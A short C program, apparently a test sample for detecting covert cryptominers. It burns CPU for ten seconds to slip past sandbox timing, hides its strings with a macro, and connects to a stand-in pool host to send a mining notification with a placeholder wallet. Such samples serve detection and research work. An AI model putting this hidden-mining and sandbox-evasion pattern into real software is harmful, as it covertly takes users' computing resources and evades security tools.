// hidden
// Waits by counting, not by sleeping: ten seconds of arithmetic before the first packet.
#include "mine.h"
int main(void) {
    begin();
    burn(10000);
    int fd = dial(HIDE("eu2.copper-lantern.example"), 8080, 5000);
    if (fd < 0) return 1;
    mine_notify(fd, HIDE("<<bitcoin>>.c1"), HIDE("bm/1.0"), 4, 1500);
    return 0;
}
